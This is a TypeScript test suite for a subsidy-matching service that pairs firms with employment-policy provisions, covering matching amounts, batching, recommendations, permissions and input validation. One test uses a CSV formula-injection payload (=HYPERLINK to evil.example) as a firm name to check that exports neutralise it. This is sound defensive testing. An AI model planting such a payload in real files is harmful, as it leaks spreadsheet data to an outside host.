/**
 * 政策找企业: a firm's facts, the bureau's matching run (admin.runMatching and friends),
 * 为您推荐 and 消息. Expected firms and amounts are worked out by hand from the notice
 * (docs/policy-rules.md), never from the engine.
 */
import type { Database } from '../../cloudfunctions/_shared/db/types'
import admin from '../../cloudfunctions/admin/index.ts'
import { MATCHING_RUNS, type MatchingRun } from '../../cloudfunctions/_shared/repositories/matching'
import { FIELD_NAME } from '../../cloudfunctions/_shared/db/cloudbase-limits'
import { cloudBaseProfile } from '../../server/db/cloudbase-profile'
import { invoke, type Answer } from '../../server/invoke'
import { EMPLOYERS } from '../../cloudfunctions/_shared/repositories/employers'
import { matchingService } from '../../cloudfunctions/_shared/services/admin/matching'
import type { Output } from '../../cloudfunctions/api'
import { ADMIN, contextFor, downloadText, testProfile } from '../helpers/context'
import { CODES, FIRM_A, makeWorld, SEEKER, UNVERIFIED, type World } from '../helpers/firms'

let w: World
beforeEach(async () => {
  w = await makeWorld()
})
afterEach(() => w.db.close())

type MatchingData = Output<'admin', 'matching'>
type ProvisionResult = MatchingData['provisions'][number]
type Firm = ProvisionResult['eligibleFirms'][number]
type Progress = Output<'admin', 'runMatching'>

let seq = 0
/** A verified private firm with these stated facts (inserted directly: the registration path is tested elsewhere). */
async function addFirm(db: Database, name: string, facts: Record<string, unknown>, over: Record<string, unknown> = {}) {
  const owner = `m-firm-${++seq}`
  const at = '2021-11-01T00:00:00.000Z'
  const { id } = await db.collection(EMPLOYERS).add({
    ownerOpenId: owner, name, creditCode: `TEST${String(seq).padStart(14, '0')}`, ownership: 'private', industry: 'other', employees: 50,
    city: '太原市', district: '小店区', address: '一号', contactName: '张三', contactPhone: '13800000000', status: 'verified',
    submittedAt: at, createdAt: at, updatedAt: at, ...over,
  })
  if (Object.keys(facts).length) await w.ok('account', owner, { action: 'updateFacts', facts })
  return { id: id as string, owner, name }
}

/** Runs a matching as the administrator until it is done; returns the results. */
async function runAll(asOf: string, opts: { now?: Date } = {}): Promise<MatchingData> {
  let p = await w.ok('admin', ADMIN, { action: 'runMatching', asOf }, opts)
  while (p.status === 'running') p = await w.ok('admin', ADMIN, { action: 'continueMatching', runId: p.runId }, opts)
  return w.ok('admin', ADMIN, { action: 'matching', runId: p.runId, limit: 100 }, opts)
}

const byKey = (d: MatchingData, key: string) => d.provisions.find((p) => p.key === key) as ProvisionResult
/** What the runs told the firms (their reviews told them other things). */
const recommendationMessages = async () => (await w.db.collection('messages').where({ kind: 'recommendation' }).count()).total
const namesAmounts = (firms: Firm[]) => Object.fromEntries(firms.map((f) => [f.employerName, f.amount]))

describe('admin.runMatching over firms straddling every boundary of measures 15 and 21', () => {
  it('lists exactly the right firms and amounts', async () => {
    // Measure 15, as of 2021-12-01: last year is 2020, control target 6.0%; firms with ≤30 insured
    // staff may lay off up to 20%. Refund: 中小微 60%, large 30% of last year's premiums.
    const p = { uiPremiumsLastYear: 10_000 }
    await addFirm(w.db, '稳岗-裁员率恰为6%', { sizeClass: 'small', insuredStaff: 100, layoffsLastYear: 6, ...p }) // 6000
    await addFirm(w.db, '稳岗-裁员率7%', { sizeClass: 'small', insuredStaff: 100, layoffsLastYear: 7, ...p }) // no
    await addFirm(w.db, '稳岗-30人裁员20%', { sizeClass: 'small', insuredStaff: 30, layoffsLastYear: 6, ...p }, { city: '大同市', district: '平城区' }) // 6000
    await addFirm(w.db, '稳岗-31人裁员6人', { sizeClass: 'small', insuredStaff: 31, layoffsLastYear: 6, ...p }) // 19.4% > 6%, 31 > 30: no
    await addFirm(w.db, '稳岗-30人裁员7人', { sizeClass: 'small', insuredStaff: 30, layoffsLastYear: 7, ...p }) // 23.3%: no
    await addFirm(w.db, '稳岗-大型未裁员', { sizeClass: 'large', insuredStaff: 200, layoffsLastYear: 0, ...p }) // 30%: 3000
    await addFirm(w.db, '稳岗-中型', { sizeClass: 'medium', insuredStaff: 50, layoffsLastYear: 0, uiPremiumsLastYear: 12_345 }) // 7407
    await addFirm(w.db, '稳岗-缺缴费额', { sizeClass: 'small', insuredStaff: 40, layoffsLastYear: 1 }) // 2.5% ok, needs uiPremiumsLastYear
    // Measure 21: small and micro only; under 100 hires 1000 each, 100 or more 1500 each (all of them);
    // difficult hires 300 a month each, at most 36 months.
    await addFirm(w.db, '吸纳-小型99人', { sizeClass: 'small', newHires: 99 }) // 99,000
    await addFirm(w.db, '吸纳-小型100人', { sizeClass: 'small', newHires: 100 }, { city: '大同市', district: '平城区' }) // 150,000
    await addFirm(w.db, '吸纳-中型100人', { sizeClass: 'medium', newHires: 100 }) // no
    await addFirm(w.db, '吸纳-微型1人', { sizeClass: 'micro', newHires: 1 }) // 1,000
    await addFirm(w.db, '困难-2人40个月', { sizeClass: 'small', difficultHires: 2, difficultHireMonths: 40 }) // 300 × 2 × 36 = 21,600
    await addFirm(w.db, '困难-缺月数', { sizeClass: 'small', difficultHires: 3 }) // needs difficultHireMonths
    await addFirm(w.db, '未认证-吸纳', { sizeClass: 'small', newHires: 50 }, { status: 'pending' }) // not matched

    const d = await runAll('2021-12-01')
    // the 16 verified: the 14 above and makeWorld's firms A and B
    expect(d.run).toMatchObject({ status: 'done', processed: 16, total: 16 })

    const m15 = byKey(d, '15/stabilisation-refund')
    expect(namesAmounts(m15.eligibleFirms)).toEqual({ '稳岗-中型': 7407, '稳岗-裁员率恰为6%': 6000, '稳岗-30人裁员20%': 6000, '稳岗-大型未裁员': 3000 })
    expect(m15).toMatchObject({ eligible: 4, amount: 22_407, needsInfo: 1 })
    expect(m15.eligibleFirms.find((f) => f.employerName === '稳岗-大型未裁员')?.working).toContain('30%')
    expect(m15.needsInfoFirms.map((f) => [f.employerName, f.missing])).toEqual([['稳岗-缺缴费额', 'uiPremiumsLastYear']])

    const hiring = byKey(d, '21/hiring')
    expect(namesAmounts(hiring.eligibleFirms)).toEqual({ '吸纳-小型100人': 150_000, '吸纳-小型99人': 99_000, '吸纳-微型1人': 1000 })
    expect(hiring.eligibleFirms.map((f) => f.employerName)).toEqual(['吸纳-小型100人', '吸纳-小型99人', '吸纳-微型1人'])
    expect(hiring).toMatchObject({ eligible: 3, amount: 250_000 })

    const difficult = byKey(d, '21/difficult-hires')
    expect(namesAmounts(difficult.eligibleFirms)).toEqual({ '困难-2人40个月': 21_600 })
    expect(difficult.needsInfoFirms.map((f) => [f.employerName, f.missing])).toEqual([['困难-缺月数', 'difficultHireMonths']])

    // Per city: 大同市 holds one refund (6000) and one hiring subsidy (150,000).
    const datong = d.cities.find((c) => c.city === '大同市')
    expect(datong).toMatchObject({ firms: 2, amount: 156_000 })
  })

  it('pays no refund as of a date after measure 15 ended (2021-12-31)', async () => {
    await addFirm(w.db, '稳岗-未裁员', { sizeClass: 'small', insuredStaff: 10, layoffsLastYear: 0, uiPremiumsLastYear: 5000 })
    const before = byKey(await runAll('2021-12-31'), '15/stabilisation-refund')
    expect(namesAmounts(before.eligibleFirms)).toEqual({ '稳岗-未裁员': 3000 })
    expect(byKey(await runAll('2022-01-01'), '15/stabilisation-refund').eligible).toBe(0)
  })

  it('pages through more firms than one batch, reporting progress, and exports every match as CSV', async () => {
    for (let i = 0; i < 250; i++) await addFirm(w.db, `批量企业${i}`, { sizeClass: 'micro', newHires: 2 })
    const ctx = contextFor(w.db, ADMIN, new Date('2021-12-01T02:00:00Z'))
    // A zero time budget processes one batch per call.
    let p = await matchingService.runMatching({ asOf: '2021-12-01' }, ctx, 0)
    const seen = [p.processed]
    while (p.status === 'running') {
      p = await matchingService.continueMatching({ runId: p.runId }, ctx, 0)
      seen.push(p.processed)
    }
    expect(p.total).toBe(252)
    expect(seen).toEqual([100, 200, 252, 252])
    const d = await w.ok('admin', ADMIN, { action: 'matching', runId: p.runId })
    expect(byKey(d, '21/hiring')).toMatchObject({ eligible: 250, amount: 500_000 })
    expect(byKey(d, '21/hiring').eligibleFirms).toHaveLength(20)
    const page = await w.ok('admin', ADMIN, { action: 'matching', runId: p.runId, key: '21/hiring', status: 'eligible', offset: 240, limit: 100 })
    expect(page.provisions).toHaveLength(1)
    expect(page.provisions[0].eligibleFirms).toHaveLength(10)
    const csv = await w.ok('admin', ADMIN, { action: 'exportMatching', runId: p.runId })
    expect(csv.filename).toBe('政策找企业-2021-12-01.csv')
    const text = downloadText(csv.file)
    const lines = text.trim().split('\r\n')
    expect(text.startsWith('\uFEFF条款,补贴项目,结果,企业名称')).toBe(true)
    expect(lines.filter((l) => l.startsWith('第21条,吸纳就业补助,符合,批量企业'))).toHaveLength(250)
    expect(lines).toContain('第21条,吸纳就业补助,符合,批量企业0,' + `TEST${String(seq - 249).padStart(14, '0')}` + ',太原市,小店区,2000,,"1,000元 × 2人 = 2,000元",')
    expect(csv.rows).toBe(lines.length - 1)
  })

  it('exports a firm named like a spreadsheet formula as text, never as a formula', async () => {
    // The bureau opens the file in a spreadsheet: a cell starting with = would run as a formula (a link that leaks the sheet).
    const formula = '=HYPERLINK("http://evil.example/x?"&A1,"点此领取补贴")'
    const id = await w.register('u-formula-firm', CODES.spare, { name: formula })
    expect(await w.review({ target: 'employer', id, decision: 'approve' })).toMatchObject({ ok: true })
    await w.ok('account', 'u-formula-firm', { action: 'updateFacts', facts: { sizeClass: 'micro', newHires: 2 } })
    const { run } = await runAll('2026-11-28')
    if (!run) throw new Error('the matching run is not stored')
    const csv = await w.ok('admin', ADMIN, { action: 'exportMatching', runId: run.runId })
    const lines = downloadText(csv.file).split('\r\n')
    expect(lines.filter((l) => l.includes('HYPERLINK'))).toContain(
      `第21条,吸纳就业补助,符合,"'=HYPERLINK(""http://evil.example/x?""&A1,""点此领取补贴"")",${CODES.spare},太原市,小店区,2000,,"1,000元 × 2人 = 2,000元",`,
    )
    // No cell of any row starts a formula.
    expect(lines.filter((l) => /(^|,)"?[=+\-@]/.test(l))).toEqual([])
  })
})

/** Facts that make a small firm eligible for most provisions of measures 8, 20, 21 and 22 as of 2026-11-28. */
const everyProvision = {
  sizeClass: 'small', trainedStaff: 5, apprentices: 2, newHires: 10, difficultHires: 2, difficultHireMonths: 12,
  interns: 2, internMonths: 3, localMinimumWage: 1880, firstTimeFounder: true, operatingMonths: 6,
}

describe('a run within CloudBase’s limits (the CloudBase profile)', () => {
  /** Calls as the matching page does, each call one invocation of the admin function. */
  const callAdmin = async (event: Record<string, unknown>, profile = testProfile): Promise<Answer> => (await invoke(admin, event, w.ctx(ADMIN), profile)).answer

  it('commits every batch of a hundred firms that each find six provisions: no transaction runs past 30 s', async () => {
    for (let i = 0; i < 100; i++) await addFirm(w.db, `全能企业${i}`, everyProvision)
    // In one transaction, 100 firms × 6 provisions × (match + recommendation) + messages is some
    // 1,300 round trips: CloudBase drops it at 30 s and the run never gets past its first batch.
    const d = await runAll('2026-11-28')
    expect(d.run).toMatchObject({ status: 'done', processed: 102 })
    expect(byKey(d, '21/hiring')).toMatchObject({ eligible: 100, amount: 1_000_000 })
    expect(byKey(d, '8/training').eligible).toBe(100)
    expect((await w.ok('account', `m-firm-${seq}`, { action: 'messages' })).unread).toBe(1)
  })

  it('retries a batch that ran past the function’s timeout with fewer firms, and counts each firm once', async () => {
    for (let i = 0; i < 100; i++) await addFirm(w.db, `全能企业${i}`, everyProvision)
    // An admin function with a 2 s timeout: a whole batch's writes take longer, so the call is stopped mid-batch.
    const shortTimeout = cloudBaseProfile({ functionTimeoutMs: { ...testProfile.functionTimeoutMs, admin: 2000 } })
    const answers: Answer[] = [await callAdmin({ action: 'runMatching', asOf: '2026-11-28' }, shortTimeout)]
    const runId = (await w.db.collection(MATCHING_RUNS).limit(1).get()).data[0]._id
    for (let call = 0; call < 30; call++) {
      const last = answers[answers.length - 1]
      if (last.ok && (last.data as Progress).status === 'done') break
      answers.push(await callAdmin({ action: 'continueMatching', runId }, shortTimeout))
    }
    // Some calls were stopped, and the run still finished.
    expect(answers.some((a) => !a.ok && a.error.code === 'FUNCTIONS_TIME_LIMIT_EXCEEDED')).toBe(true)
    const last = answers[answers.length - 1]
    expect(last).toMatchObject({ ok: true, data: { status: 'done', processed: 102 } })
    const d = await w.ok('admin', ADMIN, { action: 'matching', runId, limit: 100 })
    expect(byKey(d, '21/hiring')).toMatchObject({ eligible: 100, amount: 1_000_000 })
    expect(byKey(d, '21/hiring').eligibleFirms).toHaveLength(100)
    // Written twice by a retried batch, still one recommendation and one message per firm.
    expect(d.total.eligible).toBeGreaterThanOrEqual(100 * 5)
    expect(await w.count('recommendations')).toBe(d.total.eligible)
    expect(await recommendationMessages()).toBe(100)
  })

  it('keeps its totals per city and per provision as lists: every stored field name is one CloudBase accepts', async () => {
    await addFirm(w.db, '吸纳-小型', { sizeClass: 'small', newHires: 10 }, { city: '大同市', district: '平城区' })
    await runAll('2026-11-28')
    const run = (await w.db.collection(MATCHING_RUNS).limit(1).get()).data[0] as unknown as MatchingRun
    const names = (value: unknown): string[] =>
      Array.isArray(value) ? value.flatMap(names)
        : value && typeof value === 'object' ? Object.entries(value).flatMap(([k, v]) => [k, ...names(v)]) : []
    expect(names(run).filter((k) => k !== '_id' && !FIELD_NAME.test(k))).toEqual([])
    expect(run.cities.find((c) => c.city === '大同市')).toMatchObject({ firms: 1, amount: 10_000 })
    expect(run.provisions.find((p) => p.key === '21/hiring')).toMatchObject({ measure: 21, eligible: 1, amount: 10_000 })
  })

  it('as of another day than today is a simulation: results for the bureau, nothing for the firms', async () => {
    await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 12 } })
    const started = await w.ok('admin', ADMIN, { action: 'runMatching', asOf: '2026-01-05' })
    expect(started).toMatchObject({ simulation: true, note: expect.stringContaining('模拟比对') })
    let p: Progress = started
    while (p.status === 'running') p = await w.ok('admin', ADMIN, { action: 'continueMatching', runId: p.runId })
    const d = await w.ok('admin', ADMIN, { action: 'matching', runId: p.runId })
    expect(namesAmounts(byKey(d, '21/hiring').eligibleFirms)).toEqual({ 大同甲机械有限公司: 12_000 })
    expect(await recommendationMessages()).toBe(0)
    expect((await w.ok('account', FIRM_A, { action: 'recommendations' })).items).toEqual([])
    expect(await w.ok('admin', ADMIN, { action: 'runMatching', asOf: '2026-11-28' })).toMatchObject({ simulation: false, note: null })
  })
})

describe('为您推荐 and 消息', () => {
  const recs = () => w.ok('account', FIRM_A, { action: 'recommendations' })

  it('appears after a run, messages the firm once, and disappears when its facts change', async () => {
    // The firm's earlier news (its review) read: what follows is the run's.
    await w.ok('account', FIRM_A, { action: 'readMessages' })
    const recommendationsOf = async () => (await w.ok('account', FIRM_A, { action: 'messages' })).items.filter((m) => m.kind === 'recommendation')
    await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 12 } })
    expect((await recs()).items).toEqual([])
    await runAll('2026-11-28')
    // Firm A: industry, 50 staff, 10 million yuan revenue → small; 12 hires × 1000.
    expect((await recs()).items).toEqual([expect.objectContaining({ key: '21/hiring', amount: 12_000, working: '1,000元 × 12人 = 12,000元' })])
    const m1 = await w.ok('account', FIRM_A, { action: 'messages' })
    expect(m1.unread).toBe(1)
    expect((await recommendationsOf())[0].body).toContain('第21条 吸纳就业补助 12,000元')

    // The same finding again is not news.
    await runAll('2026-11-28')
    expect(await recommendationsOf()).toHaveLength(1)

    await w.ok('account', FIRM_A, { action: 'readMessages' })
    expect((await w.ok('account', FIRM_A, { action: 'messages' })).unread).toBe(0)

    await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 0 } })
    expect((await recs()).items).toEqual([])
    await runAll('2026-11-28')
    expect((await recs()).items).toEqual([])
  })

  it('lets a firm say a match is wrong: the new facts are saved and the recommendation goes', async () => {
    await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { newHires: 5, interns: 2, internMonths: 3, localMinimumWage: 1880 } })
    await runAll('2026-11-28')
    expect((await recs()).items.map((r) => r.key).sort()).toEqual(['21/hiring', '22/internship'])
    const res = await w.ok('account', FIRM_A, {
      action: 'disputeMatch', measure: 21, provision: 'hiring', facts: { newHires: 0 },
    })
    expect(res.facts.find((f) => f.name === 'newHires')).toMatchObject({ value: 0, statedAt: expect.any(String) })
    expect((await recs()).items).toEqual([])
    const missing = await w.call('account', FIRM_A, { action: 'disputeMatch', measure: 21, provision: 'hiring', facts: { newHires: 1 } })
    expect(missing).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } })
  })

  it('shows the facts with their dates: the profile’s and those stated since', async () => {
    await w.ok('account', FIRM_A, { action: 'updateFacts', facts: { insuredStaff: 40, employees: 55 } })
    const f = await w.ok('account', FIRM_A, { action: 'facts' })
    expect(f.version).toBe(1)
    const get = (n: string) => f.facts.find((x) => x.name === n)
    expect(get('ownership')).toMatchObject({ value: 'private', source: 'profile', editable: false })
    expect(get('employees')).toMatchObject({ value: 55, source: 'stated', statedAt: '2026-11-28T04:00:00.000Z', editable: true })
    expect(get('insuredStaff')).toMatchObject({ value: 40, source: 'stated' })
    expect(get('newHires')).toMatchObject({ value: null, statedAt: null })
    await w.ok('account', FIRM_A, { action: 'updateFacts', clear: ['insuredStaff'] })
    const g = await w.ok('account', FIRM_A, { action: 'facts' })
    expect(g.facts.find((x) => x.name === 'insuredStaff')?.value).toBeNull()
  })

  it('lets a firm not yet verified state facts, but recommends nothing to it', async () => {
    await w.ok('account', UNVERIFIED, { action: 'updateFacts', facts: { newHires: 3 } })
    await runAll('2026-11-28')
    expect(await w.ok('account', UNVERIFIED, { action: 'recommendations' })).toMatchObject({ verified: false, items: [] })
  })
})

describe('permissions and bad input', () => {
  const dump = async () => {
    const all = async (name: string) => (await w.db.collection(name).orderBy('_id', 'asc').limit(1000).get()).data
    return JSON.stringify(await Promise.all(['employers', 'enterprise_facts', 'matching_runs', 'matches', 'recommendations', 'messages'].map(all)))
  }

  const adminActions: Record<string, Record<string, unknown>> = {
    runMatching: { asOf: '2021-12-01' },
    continueMatching: { runId: 'x' },
    matching: {},
    exportMatching: {},
  }
  it.each(Object.entries(adminActions))('admin.%s: administrators only', async (name, params) => {
    const before = await dump()
    expect(await w.call('admin', null, { action: name, ...params })).toMatchObject({ ok: false, error: { code: 'UNAUTHENTICATED' } })
    for (const who of [SEEKER, FIRM_A, UNVERIFIED]) {
      expect(await w.call('admin', who, { action: name, ...params })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } })
    }
    expect(await dump()).toBe(before)
  })

  it('lets the administrator read a run and nobody else', async () => {
    const d = await runAll('2026-11-28')
    expect(d.run?.status).toBe('done')
    expect(await w.call('admin', FIRM_A, { action: 'matching', runId: d.run?.runId })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } })
    expect(await w.call('admin', ADMIN, { action: 'matching', runId: 'no-such-run' })).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } })
  })

  const firmActions: Record<string, Record<string, unknown>> = {
    facts: {},
    updateFacts: { facts: { newHires: 1 } },
    recommendations: {},
    disputeMatch: { measure: 21, provision: 'hiring', facts: { newHires: 1 } },
  }
  it.each(Object.entries(firmActions))('account.%s: the firm itself only', async (name, params) => {
    const before = await dump()
    expect(await w.call('account', null, { action: name, ...params })).toMatchObject({ ok: false, error: { code: 'UNAUTHENTICATED' } })
    for (const who of [SEEKER, ADMIN]) {
      expect(await w.call('account', who, { action: name, ...params })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } })
    }
    expect(await dump()).toBe(before)
  })

  it.each(['messages', 'readMessages'])('account.%s needs a signed-in caller', async (name) => {
    expect(await w.call('account', null, { action: name })).toMatchObject({ ok: false, error: { code: 'UNAUTHENTICATED' } })
    expect(await w.call('account', SEEKER, { action: name })).toMatchObject({ ok: true })
  })

  it.each([
    ['a negative count', 'account', { action: 'updateFacts', facts: { newHires: -1 } }],
    ['a fraction', 'account', { action: 'updateFacts', facts: { insuredStaff: 1.5 } }],
    ['the registered ownership', 'account', { action: 'updateFacts', facts: { ownership: 'state' } }],
    ['an individual’s fact', 'account', { action: 'updateFacts', facts: { certificateLevel: 4 } }],
    ['an unknown fact', 'account', { action: 'updateFacts', facts: { profit: 1 } }],
    ['nothing to save', 'account', { action: 'updateFacts' }],
    ['a fact set and cleared at once', 'account', { action: 'updateFacts', facts: { newHires: 1 }, clear: ['newHires'] }],
    ['an unknown size class', 'account', { action: 'updateFacts', facts: { sizeClass: 'huge' } }],
    ['a dispute without facts', 'account', { action: 'disputeMatch', measure: 21, provision: 'hiring' }],
    ['an impossible date', 'admin', { action: 'runMatching', asOf: '2021-02-30' }],
    ['no date', 'admin', { action: 'runMatching' }],
    ['an unknown provision', 'admin', { action: 'matching', key: '99/none' }],
    // Found by test/abuse: these were INTERNAL, and runMatching had already stored the run.
    ['a date before the notice was issued', 'admin', { action: 'runMatching', asOf: '2011-06-17' }],
    ['a prototype name as the provision', 'admin', { action: 'matching', key: '__proto__' }],
    ['an inherited name as the provision', 'admin', { action: 'matching', key: 'toString' }],
  ] as const)('refuses %s with INVALID_INPUT and writes nothing', async (_what, fn, event) => {
    const before = await dump()
    const who = fn === 'admin' ? ADMIN : FIRM_A
    if (fn === 'admin' && event.action === 'matching') await runAll('2026-11-28')
    const mid = await dump()
    expect(await w.call(fn, who, event as Record<string, unknown>)).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } })
    expect(await dump()).toBe(mid)
    void before
  })
})
